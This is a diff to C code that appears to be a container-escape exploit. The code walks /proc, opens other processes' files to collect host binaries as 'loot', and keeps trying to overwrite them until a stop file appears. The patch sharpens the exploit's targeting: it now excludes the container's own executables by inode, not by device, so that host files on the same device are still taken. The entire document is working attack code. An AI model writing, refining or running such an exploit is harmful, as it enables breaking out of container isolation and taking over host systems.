@@ -14,6 +14,7 @@
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -58,7 +59,19 @@ static void write_held(struct loot *loot)
     }
 }
 
-static void take(struct loot *loot, const char *pid, const struct stat *own)
+/* What the container runs itself is no loot; the host's files may be on the same device. */
+static bool is_own(const struct stat *found)
+{
+    static const char *const names[] = {"/proc/self/exe", "/bin/busybox"};
+    for (unsigned i = 0; i < sizeof(names) / sizeof(*names); i++) {
+        struct stat own;
+        if (stat(names[i], &own) == 0 && own.st_dev == found->st_dev && own.st_ino == found->st_ino)
+            return true;
+    }
+    return false;
+}
+
+static void take(struct loot *loot, const char *pid)
 {
     char path[300];
     struct stat st;
@@ -67,8 +80,7 @@ static void take(struct loot *loot, const char *pid, const struct stat *own)
     loot->tried++;
     if (fd < 0)
         return;
-    /* What the container runs itself is no loot. */
-    if (fstat(fd, &st) < 0 || st.st_dev == own->st_dev) {
+    if (fstat(fd, &st) < 0 || is_own(&st)) {
         close(fd);
         return;
     }
@@ -81,16 +93,13 @@ static void take(struct loot *loot, const char *pid, const struct stat *own)
 static int overwrite(void)
 {
     struct loot loot = {0};
-    struct stat own;
-    if (stat("/proc/self/exe", &own) < 0)
-        return 1;
     while (access("/stop", F_OK) < 0) {
         DIR *processes = opendir("/proc");
         if (processes == NULL)
             return 1;
         for (const struct dirent *entry; (entry = readdir(processes)) != NULL;) {
             if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
-                take(&loot, entry->d_name, &own);
+                take(&loot, entry->d_name);
         }
         closedir(processes);
         write_held(&loot);
